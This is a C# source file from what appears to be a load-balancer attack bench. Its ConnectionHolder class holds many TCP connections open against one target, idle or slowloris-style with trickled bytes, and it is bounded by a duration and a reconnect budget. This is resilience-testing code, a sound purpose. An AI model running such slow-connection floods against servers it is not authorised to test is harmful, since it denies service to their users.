using System.Net;
using System.Net.Sockets;

namespace LbAcme.AttackBench.Net;

/// <summary>
/// Holds <c>count</c> connections to one target open for as long as it runs: each slot connects (at most
/// <see cref="ConcurrentConnects"/> at once), sends <c>opening</c> if given, then sends <c>trickle</c> every
/// <c>trickleInterval</c> (slowloris) or nothing (idle). A slot the server closes connects again, until every slot
/// together has opened <see cref="OpenBudgetPerSlot"/> times its share: bounded in count as well as time.
/// </summary>
internal sealed class ConnectionHolder(IReadOnlyList<IPAddress> sources, IPEndPoint target, int count, byte[]? opening = null, byte[]? trickle = null, TimeSpan trickleInterval = default)
{
    public const int ConcurrentConnects = 256;
    public const int OpenBudgetPerSlot = 3;
    private static readonly TimeSpan ConnectTimeout = TimeSpan.FromSeconds(5);
    private static readonly TimeSpan ReopenPause = TimeSpan.FromMilliseconds(200);
    private long _attempts;
    private long _opened;
    private long _failed;
    private long _closedByServer;
    private long _held;
    private long _peakHeld;

    public async Task RunAsync(TimeSpan duration, CancellationToken cancellationToken)
    {
        using var stop = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        stop.CancelAfter(duration);
        using var connecting = new SemaphoreSlim(ConcurrentConnects);
        await Task.WhenAll(Enumerable.Range(0, count).Select(slot => Task.Run(() => HoldSlotAsync(sources[slot % sources.Count], connecting, stop.Token), CancellationToken.None)));
    }

    public string Summary =>
        $"{count} slots: {Interlocked.Read(ref _opened)} opened, peak {Interlocked.Read(ref _peakHeld)} held, "
        + $"{Interlocked.Read(ref _closedByServer)} closed by the server, {Interlocked.Read(ref _failed)} connects failed";

    private async Task HoldSlotAsync(IPAddress source, SemaphoreSlim connecting, CancellationToken stop)
    {
        var budget = (long)count * OpenBudgetPerSlot;
        while (!stop.IsCancellationRequested && Interlocked.Increment(ref _attempts) <= budget)
        {
            var socket = await TryConnectAsync(source, connecting, stop);
            if (socket is null)
            {
                await PauseAsync(stop);
                continue;
            }
            using (socket)
            {
                Interlocked.Increment(ref _opened);
                var held = Interlocked.Increment(ref _held);
                InterlockedMax(ref _peakHeld, held);
                var closed = await HoldAsync(socket, stop);
                Interlocked.Decrement(ref _held);
                if (!closed)
                {
                    return;
                }
                Interlocked.Increment(ref _closedByServer);
            }
            await PauseAsync(stop);
        }
    }

    private async Task<Socket?> TryConnectAsync(IPAddress source, SemaphoreSlim connecting, CancellationToken stop)
    {
        try
        {
            await connecting.WaitAsync(stop);
        }
        catch (OperationCanceledException)
        {
            return null;
        }
        try
        {
            using var timeout = CancellationTokenSource.CreateLinkedTokenSource(stop);
            timeout.CancelAfter(ConnectTimeout);
            var socket = await SourceSocket.ConnectAsync(source, target, timeout.Token);
            if (opening is not null)
            {
                await socket.SendAsync(opening, SocketFlags.None, timeout.Token);
            }
            return socket;
        }
        catch (Exception e) when (e is SocketException or OperationCanceledException)
        {
            if (!stop.IsCancellationRequested)
            {
                Interlocked.Increment(ref _failed);
            }
            return null;
        }
        finally
        {
            connecting.Release();
        }
    }

    /// <summary>Keeps the connection until the server ends it (true) or the run stops (false).</summary>
    private async Task<bool> HoldAsync(Socket socket, CancellationToken stop)
    {
        var sink = new byte[512];
        try
        {
            var receive = socket.ReceiveAsync(sink, SocketFlags.None, stop).AsTask();
            while (true)
            {
                if (trickle is null)
                {
                    // Whatever the server sends (a 408, a 400) is read and dropped; only its close ends the hold.
                    if (await receive == 0)
                    {
                        return true;
                    }
                    receive = socket.ReceiveAsync(sink, SocketFlags.None, stop).AsTask();
                    continue;
                }
                var tick = Task.Delay(trickleInterval, stop);
                if (await Task.WhenAny(receive, tick) == tick)
                {
                    await tick;
                    await socket.SendAsync(trickle, SocketFlags.None, stop);
                    continue;
                }
                if (await receive == 0)
                {
                    return true;
                }
                receive = socket.ReceiveAsync(sink, SocketFlags.None, stop).AsTask();
            }
        }
        catch (OperationCanceledException)
        {
            return false;
        }
        catch (SocketException)
        {
            return !stop.IsCancellationRequested;
        }
    }

    private static async Task PauseAsync(CancellationToken stop)
    {
        try
        {
            await Task.Delay(ReopenPause, stop);
        }
        catch (OperationCanceledException)
        {
            // The run is over.
        }
    }

    private static void InterlockedMax(ref long target, long value)
    {
        long seen;
        while ((seen = Interlocked.Read(ref target)) < value && Interlocked.CompareExchange(ref target, value, seen) != seen)
        {
        }
    }
}
